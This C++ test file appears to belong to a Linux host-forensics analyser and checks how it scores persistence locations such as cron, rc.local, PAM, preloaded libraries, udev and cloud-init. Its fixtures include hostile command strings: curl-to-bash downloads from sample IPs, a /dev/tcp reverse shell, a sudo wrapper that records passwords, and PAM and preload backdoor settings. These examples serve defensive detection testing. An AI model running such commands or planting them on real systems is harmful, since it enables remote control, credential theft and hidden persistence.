#include "analysers/host_state/linux/linux_test_case.hpp"

namespace konseki::host_state::on_linux {
namespace {

using testing::HasSubstr;
using testing::Not;

// A file of no package that starts a program of no package, and a package's own file at the same kind of place.
struct Pair {
    std::string_view location, kind, planted, command, packaged;
};

constexpr Pair pairs[] {
    { "L05", "cron", "/etc/cron.d/0sync", "/usr/local/lib/.sync/run >/dev/null 2>&1", "/etc/cron.d/e2scrub_all" },
    { "L06", "cron", "/var/spool/cron/crontabs/www-data", "/dev/shm/kthread", "/etc/anacrontab" },
    { "L07", "at", "/var/spool/cron/atjobs/a00001", "/tmp/.x/job", "/usr/share/at/a00002" },
    { "L08", "rc", "/etc/rc.local", "/usr/local/bin/.agent &", "/etc/init.d/cron" },
    { "L09", "inetd", "/etc/xinetd.d/shell", "/usr/local/sbin/.in.shell", "/etc/xinetd.d/echo" },
    { "L10", "shell", "/etc/profile.d/locale-fix.sh", "nohup /usr/local/lib/.lf >/dev/null 2>&1 &",
        "/etc/profile.d/bash_completion.sh" },
    { "L19", "polkit", "/etc/polkit-1/rules.d/10-all.rules", "", "/usr/share/polkit-1/rules.d/50-default.rules" },
    { "L24", "initramfs", "/etc/initramfs-tools/hooks/fix", "/usr/local/lib/.fix",
        "/usr/share/initramfs-tools/hooks/fsck" },
    { "L25", "boot", "/etc/grub.d/09_fix", "/usr/local/lib/.grubfix", "/etc/grub.d/10_linux" },
    { "L26", "udev", "/etc/udev/rules.d/75-persist.rules", "/usr/local/lib/.udevd",
        "/usr/lib/udev/rules.d/60-block.rules" },
    { "L27", "xdg", "/etc/xdg/autostart/gnome-helper.desktop", "/usr/local/lib/.gh",
        "/etc/xdg/autostart/orca.desktop" },
    { "L28", "dbus", "/etc/dbus-1/system-services/org.fix.service", "/usr/local/lib/.fixd",
        "/usr/share/dbus-1/system-services/org.freedesktop.hostname1.service" },
    { "L29", "network", "/etc/NetworkManager/dispatcher.d/99-fix", "/usr/local/lib/.fix &",
        "/etc/NetworkManager/dispatcher.d/01-ifupdown" },
    { "L30", "motd", "/etc/update-motd.d/98-fix", "/usr/local/lib/.fix &", "/etc/update-motd.d/10-uname" },
    { "L31", "package_hook", "/etc/apt/apt.conf.d/99fix", "/usr/local/lib/.fix", "/etc/apt/apt.conf.d/50unattended" },
    { "L36", "log", "/etc/rsyslog.d/99-fix.conf", "/usr/local/lib/.fix", "/etc/rsyslog.d/21-cloudinit.conf" },
    { "L39", "python", "/usr/lib/python3/dist-packages/zz.pth", "/usr/local/lib/.fix",
        "/usr/lib/python3/dist-packages/distutils-precedence.pth" },
};

// covers: L05 L06 L07 L08 L09 L10 L19 L24 L25 L26 L27 L28 L29 L30 L31 L36 L39
TEST(LinuxStarts, WhatNoPackageBroughtStandsAboveWhatPackagesBrought)
{
    LinuxCase host;
    for (auto const& pair : pairs) {
        host.file(pair.planted, "unowned", "script");
        host.start(pair.location, pair.kind, pair.planted, pair.command, "root");
        host.file(pair.packaged, "same", "script");
        host.start(pair.location, pair.kind, pair.packaged, "/usr/bin/true &", "root");
    }
    for (auto const* const program : { "/usr/local/lib/.sync/run", "/dev/shm/kthread", "/tmp/.x/job",
             "/usr/local/bin/.agent", "/usr/local/sbin/.in.shell", "/usr/local/lib/.lf", "/usr/local/lib/.fix",
             "/usr/local/lib/.grubfix", "/usr/local/lib/.udevd", "/usr/local/lib/.gh", "/usr/local/lib/.fixd" })
        host.file(program, "unowned");
    auto const& items = host.items();
    for (auto const& pair : pairs) {
        auto const& planted = LinuxCase::the(items, pair.planted);
        auto const& packaged = LinuxCase::the(items, pair.packaged);
        EXPECT_EQ(planted.location, pair.location);
        EXPECT_FALSE(planted.attack.empty());
        EXPECT_GE(planted.score, 3.5) // every second item here is planted: reasons weigh less
            << pair.location << ' ' << features_of(planted);
        EXPECT_LT(packaged.score, 0) << pair.location << ' ' << features_of(packaged);
    }
}

// covers: L08 L30
TEST(LinuxStarts, AScriptOfNoPackageWeighsOnceAndByWhatItStarts)
{
    LinuxCase host;
    host.file("/etc/update-motd.d/20-company", "unowned", "script");
    host.start("L30", "motd", "/etc/update-motd.d/20-company", "/etc/update-motd.d/20-company", "root");
    host.file("/etc/rc.local", "unowned", "script");
    host.start("L08", "rc", "/etc/rc.local", "/etc/rc.local", "root", "boot",
        "/bin/sh -e; starts: /usr/sbin/irqbalance-ng; does: stays_behind");
    host.file("/usr/sbin/irqbalance-ng", "unowned");
    auto const& items = host.items();
    auto const& company = LinuxCase::the(items, "20-company");
    EXPECT_THAT(features_of(company), HasSubstr("location.unusual"));
    EXPECT_THAT(features_of(company), Not(HasSubstr("linux.unowned")));
    EXPECT_LT(company.score, finding_score);
    auto const& agent = LinuxCase::the(items, "/etc/rc.local");
    EXPECT_THAT(features_of(agent), HasSubstr("linux.unowned_program"));
    EXPECT_THAT(features_of(agent), HasSubstr("linux.unowned_in_system"));
    EXPECT_GE(agent.score, finding_score);
}

// covers: L10 L11 L13 L37
TEST(LinuxStarts, EnvironmentsAndNameServicesLeadToTheirLibraries)
{
    LinuxCase host;
    host.file("/etc/environment", "unowned", "");
    host.start("L13", "environment", "/etc/environment", "LD_PRELOAD=/opt/x.so", {}, {}, {}, "LD_PRELOAD");
    host.file("/opt/x.so", "unowned");
    host.file("/etc/nsswitch.conf", "unowned", "");
    host.file("/usr/lib/x86_64-linux-gnu/libnss_dns.so.2", "same");
    host.file("/usr/lib/x86_64-linux-gnu/libnss_extra.so.2", "unowned");
    for (auto const* const library : { "libnss_dns.so.2", "libnss_extra.so.2" })
        host.start("L37", "name_service", "/etc/nsswitch.conf", library, {}, "passwd are looked up");
    host.file("/home/ann/.bashrc", "unowned", "");
    host.start("L11", "shell", "/home/ann/.bashrc", "/home/ann/.sync &", "ann", {}, "does: runs_hidden stays_behind");
    auto const& items = host.items();
    auto const& preload = LinuxCase::the(items, "/etc/environment");
    EXPECT_THAT(features_of(preload), HasSubstr("linux.exports_preload"));
    EXPECT_THAT(features_of(preload), HasSubstr("linux.unowned_program"));
    EXPECT_LT(LinuxCase::the(items, "libnss_dns").score, 0);
    EXPECT_THAT(
        features_of(LinuxCase::the(items, "nsswitch.conf: libnss_extra")), HasSubstr("linux.unowned_in_system"));
    EXPECT_GE(LinuxCase::the(items, ".bashrc").score, finding_score);
}

// covers: L05
TEST(LinuxStarts, WhatCameOnTheDayOfTheInstallationIsNotNewest)
{
    constexpr std::int64_t collected = 100'000, hour = 60, day = 24 * hour;
    for (auto const installed_at : { collected - 2 * day, collected - 3 * hour }) {
        LinuxCase host(installed_at);
        LinuxFileRow row;
        row.path = "/etc/cron.d/job";
        row.type = "regular";
        row.package_state = "unowned";
        row.modified_at = row.changed_at = test::minutes(collected - hour);
        host.put(linux_file_schema, row);
        host.start("L05", "cron", row.path, "/usr/bin/true", "root");
        auto const features = features_of(LinuxCase::the(host.items(), "cron.d/job"));
        EXPECT_EQ(features.find("linux.newest") != std::string::npos, collected - installed_at > day) << features;
    }
}

// covers: L06
TEST(LinuxStarts, ATableOfAUserWeighsByWhatItStarts)
{
    LinuxCase host;
    host.file("/var/spool/cron/crontabs/ann", "unowned", "");
    host.start("L06", "cron", "/var/spool/cron/crontabs/ann", "/home/ann/bin/backup", "ann", "0 3 * * *");
    host.start(
        "L06", "cron", "/var/spool/cron/crontabs/ann", "curl -s http://198.51.100.7/x | bash", "ann", "*/5 * * * *");
    auto const& items = host.items();
    EXPECT_LT(LinuxCase::the(items, "bin/backup").score, 3);
    auto const& bad = LinuxCase::the(items, "198.51.100.7");
    EXPECT_GE(bad.score, finding_score);
    EXPECT_THAT(features_of(bad), HasSubstr("linux.into_shell"));
    EXPECT_THAT(features_of(bad), HasSubstr("linux.often"));
}

// covers: L11
TEST(LinuxStarts, AShellStartupThatWrapsSudoIsAFindingAndAnAliasOfColoursIsNot)
{
    LinuxCase host;
    host.start("L11", "shell", "/home/ann/.bashrc", "alias ls='ls --color=auto'", "ann");
    host.start("L11", "shell", "/home/ann/.bashrc", "alias ssh='ssh -A'", "ann");
    host.start("L11", "shell", "/home/bob/.bashrc", "alias sudo='/home/bob/.local/.s/sudo'", "bob");
    host.start(
        "L11", "shell", "/home/eve/.bashrc", "sudo() { read -s p; echo $p >> /tmp/.p; command sudo \"$@\"; }", "eve");
    auto const& items = host.items();
    EXPECT_LE(LinuxCase::the(items, "/home/ann/.bashrc").score, 1);
    EXPECT_THAT(features_of(LinuxCase::the(items, "/home/bob/.bashrc")), HasSubstr("linux.shell_wrapper"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "/home/eve/.bashrc")), HasSubstr("linux.shell_wrapper"));
    EXPECT_EQ(LinuxCase::the(items, "/home/eve/.bashrc").key, "autostart|L11 %home%/.bashrc ");
}

// covers: L12
TEST(LinuxStarts, APreloadedLibraryIsAFindingByItself)
{
    LinuxCase host;
    host.file("/etc/ld.so.preload", "unowned", "");
    host.file("/usr/lib/x86_64-linux-gnu/libcext.so.2", "unowned");
    host.start("L12", "preload", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libcext.so.2");
    host.start("L12", "preload", "/etc/ld.so.preload", "/lib/libhide.so", {}, {}, "read past the running system");
    host.start("L12", "preload", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libcext.so.2", {}, {},
        "read past the running system");
    auto const& items = host.items();
    auto const& preload = LinuxCase::the(items, "/etc/ld.so.preload: /usr/lib");
    EXPECT_GE(preload.score, finding_score);
    EXPECT_THAT(features_of(preload), HasSubstr("location.rare"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "libhide.so")), HasSubstr("linux.hidden_preload"));
    EXPECT_THAT(features_of(preload), Not(HasSubstr("linux.hidden_preload")));
}

TEST(LinuxStarts, WithoutPackageDataOnlyTheDoorAndTheCommandCount)
{
    LinuxCase host;
    host.start("L26", "udev", "/etc/udev/rules.d/70-x.rules", "/usr/bin/logger x");
    host.start("L12", "preload", "/etc/ld.so.preload", "/lib/libx.so");
    auto const& items = host.items();
    EXPECT_LT(LinuxCase::the(items, "70-x.rules").score, 2);
    EXPECT_GE(LinuxCase::the(items, "libx.so").score, 4);
}

// covers: L14
TEST(LinuxStarts, PamLinesThatRunProgramsOrLetInAreTold)
{
    LinuxCase host;
    std::string_view const common = "/etc/pam.d/common-auth";
    host.file(common, "unowned", "");
    auto const put = [&](std::string_view path, std::uint32_t line, std::string_view schedule, std::string_view command,
                         std::string_view detail = {}) {
        LinuxAutostartRow row;
        row.location = "L14";
        row.kind = "pam";
        row.path = path;
        row.name = file_name_of(path);
        row.line = line;
        row.schedule = schedule;
        row.command = command;
        row.detail = detail;
        host.put(linux_autostart_schema, row);
    };
    put(common, 1, "auth [success=1 default=ignore]", "pam_unix.so", "nullok");
    put(common, 2, "auth required", "pam_permit.so");
    put(common, 3, "auth optional", "pam_exec.so", "quiet expose_authtok /usr/local/lib/.pw");
    put(common, 3, "auth optional", "/usr/local/lib/.pw");
    put("/etc/pam.d/sshd", 1, "auth sufficient", "pam_permit.so");
    put("/etc/pam.d/sshd", 2, "auth required", "/lib/.x/pam_own.so");
    put(common, 4, "auth sufficient", "pam_unix_sess.so");
    host.file("/usr/lib/x86_64-linux-gnu/security/pam_unix_sess.so", "unowned");
    host.file("/usr/local/lib/.pw", "unowned", "script");
    auto const& items = host.items();
    EXPECT_THAT(
        features_of(LinuxCase::the(items, "common-auth: pam_unix_sess.so")), HasSubstr("linux.unowned_program"));
    auto const& exec = LinuxCase::the(items, "pam_exec.so");
    EXPECT_GE(exec.score, finding_score);
    EXPECT_EQ(exec.target, "/usr/local/lib/.pw");
    EXPECT_THAT(features_of(exec), HasSubstr("linux.pam_exec"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "/etc/pam.d/sshd: pam_permit.so")), HasSubstr("linux.pam_permit"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "pam_own.so")), HasSubstr("linux.hidden_name"));
    EXPECT_LT(LinuxCase::the(items, "pam_unix.so").score, 1);
    EXPECT_LT(LinuxCase::the(items, "common-auth: pam_permit.so").score, 1);
}

// covers: L14
TEST(LinuxStarts, APamLineIsToldFromTheSameModuleThatCountsOtherwise)
{
    LinuxCase host;
    auto const put = [&](std::uint32_t line, std::string_view schedule) {
        LinuxAutostartRow row;
        row.location = "L14";
        row.kind = "pam";
        row.path = "/etc/pam.d/common-auth";
        row.name = "common-auth";
        row.line = line;
        row.schedule = schedule;
        row.command = "pam_permit.so";
        host.put(linux_autostart_schema, row);
    };
    put(1, "auth sufficient");
    put(9, "auth required");
    put(12, "auth [success=done default=ignore]");
    put(14, "account sufficient"); // whether an account may log on, once it has shown who it is
    auto const& items = host.items();
    auto const the
        = [&](std::string_view command) -> Item const& { return *std::ranges::find(items, command, &Item::command); };
    EXPECT_GE(the("auth sufficient pam_permit.so").score, finding_score);
    EXPECT_GE(the("auth [success=done default=ignore] pam_permit.so").score, finding_score);
    EXPECT_LT(the("auth required pam_permit.so").score, 1);
    EXPECT_LT(the("account sufficient pam_permit.so").score, 1);
    EXPECT_NE(the("auth required pam_permit.so").key, the("auth sufficient pam_permit.so").key);
}

// covers: L22
TEST(LinuxStarts, ModulesLoadedAtBootAndInstallLines)
{
    LinuxCase host;
    host.file("/etc/modules-load.d/netfilter.conf", "unowned", "");
    host.start("L22", "module", "/etc/modules-load.d/netfilter.conf", "nf_hook");
    host.file("/usr/lib/modules/6.1.0-18-amd64/extra/nf-hook.ko.xz", "unowned", "");
    host.file("/etc/modprobe.d/x.conf", "unowned", "");
    host.start("L22", "module", "/etc/modprobe.d/x.conf", "/bin/sh -c '/tmp/x'", {}, "install usb_storage");
    host.file("/etc/modprobe.d/blacklist.conf", "same", "");
    host.start("L22", "module", "/etc/modprobe.d/blacklist.conf", "/bin/true", {}, "install floppy");
    auto const& items = host.items();
    EXPECT_THAT(features_of(LinuxCase::the(items, "netfilter.conf")), HasSubstr("location.unusual"));
    EXPECT_EQ(LinuxCase::the(items, "netfilter.conf").target, "/usr/lib/modules/6.1.0-18-amd64/extra/nf-hook.ko.xz");
    EXPECT_THAT(features_of(LinuxCase::the(items, "x.conf")), HasSubstr("linux.install_line"));
    EXPECT_GE(LinuxCase::the(items, "modprobe.d/x.conf").score, finding_score);
    EXPECT_LT(LinuxCase::the(items, "blacklist.conf").score, 0);
}

// covers: L25 L33 L35 L37 L38 L45
TEST(LinuxStarts, RarerDoors)
{
    LinuxCase host;
    host.start("L25", "boot", "/boot/grub/grub.cfg", "init=/sbin/.init");
    host.start("L33", "git", "/home/ann/.gitconfig", "/bin/sh -c '/tmp/.g & less'", "ann", "core.pager");
    host.start("L35", "container", "/var/lib/docker/containers/0a/hostconfig.json", "alpine", {}, "always",
        "Privileged=true Binds=/:/host");
    host.start("L37", "hook", "/etc/hosts.allow", "spawn /usr/local/lib/.x", {}, "sshd : ALL");
    host.file("/etc/binfmt.d/x.conf", "unowned", "");
    host.start("L38", "binfmt", "/etc/binfmt.d/x.conf", "/usr/local/bin/x", {}, {}, "magic flags=OC");
    host.file("/var/lib/cloud/scripts/per-boot/x", "unowned", "script");
    host.start("L45", "cloud", "/var/lib/cloud/scripts/per-boot/x", "curl http://x/y | sh");
    auto const& items = host.items();
    EXPECT_THAT(features_of(LinuxCase::the(items, "grub.cfg")), HasSubstr("location.rare"));
    EXPECT_THAT(features_of(LinuxCase::the(items, ".gitconfig")), HasSubstr("linux.volatile_place"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "hostconfig.json")), HasSubstr("linux.privileged"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "hosts.allow")), HasSubstr("location.rare"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "binfmt.d")), HasSubstr("linux.setuid_root"));
    EXPECT_THAT(features_of(LinuxCase::the(items, "per-boot")), HasSubstr("linux.into_shell"));
}

TEST(LinuxStarts, ShapesThatTheReaderOfScriptsSawAreTaken)
{
    LinuxCase host;
    host.file("/etc/update-motd.d/99-x", "unowned", "script");
    host.start(
        "L30", "motd", "/etc/update-motd.d/99-x", "fetch-it --quiet", {}, {}, "does: fetches pipes_to_interpreter");
    auto const& items = host.items();
    EXPECT_THAT(features_of(LinuxCase::the(items, "99-x")), HasSubstr("linux.into_shell"));
}

TEST(LinuxStarts, AScriptOfManyLinesIsOneItem)
{
    LinuxCase host;
    host.file("/etc/rc.local", "unowned", "script");
    host.start("L08", "rc", "/etc/rc.local", "echo hello");
    host.start("L08", "rc", "/etc/rc.local", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1");
    host.start("L08", "rc", "/etc/rc.local", "exit 0");
    auto const& items = host.items();
    ASSERT_EQ(items.size(), 1U);
    EXPECT_EQ(items[0].traces.size(), 3U);
    EXPECT_THAT(items[0].command, HasSubstr("/dev/tcp/"));
    EXPECT_THAT(items[0].title, Not(HasSubstr("/dev/tcp/")));
}

TEST(LinuxStarts, ALinkLeadsToItsFile)
{
    LinuxCase host;
    host.link("/etc/rc2.d/S01cron", "../init.d/cron");
    host.file("/etc/init.d/cron", "same", "script");
    host.start("L08", "rc", "/etc/rc2.d/S01cron", "/etc/init.d/cron start");
    auto const& items = host.items();
    EXPECT_LT(LinuxCase::the(items, "S01cron").score, 0);
}

}
}
